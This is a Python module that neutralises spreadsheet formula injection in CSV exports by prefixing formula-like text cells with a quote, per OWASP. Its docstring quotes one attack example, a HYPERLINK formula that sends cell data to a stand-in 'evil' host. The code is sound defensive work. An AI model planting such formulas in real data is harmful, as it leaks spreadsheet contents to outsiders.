"""Every CSV Attain writes, with cells a spreadsheet would run as a formula neutralised.

A manager opens an export in Excel or Sheets; a cell such as `=HYPERLINK("http://evil…"&A1)`
typed into a goal title or a CRM field would run there. Following OWASP's CSV injection
guidance, a text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
leading `'`, which spreadsheets read as "this is text". Numbers stay numbers: a float or int,
or a text cell that is exactly a number (`-12.5`, `+3`), is written as it is.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters a spreadsheet reads as the start of a formula (OWASP)."""

_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet reads it harmlessly: a formula-like text gets a leading `'`."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def write_rows(
    target: IO[str], columns: Sequence[str], rows: Iterable[Sequence[Any] | Mapping[str, Any]]
) -> None:
    """A header of `columns`, then each row (a sequence in column order or a mapping by
    column name, missing keys empty), every cell through `safe_cell`."""
    writer = csv.writer(target, lineterminator="\n")
    writer.writerow([safe_cell(name) for name in columns])
    for row in rows:
        cells = [row.get(name) for name in columns] if isinstance(row, Mapping) else row
        writer.writerow([safe_cell(cell) for cell in cells])


def write_csv(rows: Iterable[Sequence[Any] | Mapping[str, Any]], columns: Sequence[str]) -> str:
    """The rows as CSV text (see `write_rows`)."""
    buffer = io.StringIO()
    write_rows(buffer, columns, rows)
    return buffer.getvalue()


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells went through `safe_cell`, for `DataFrame.to_csv`."""
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            safe[column] = safe[column].map(safe_cell)
    return safe
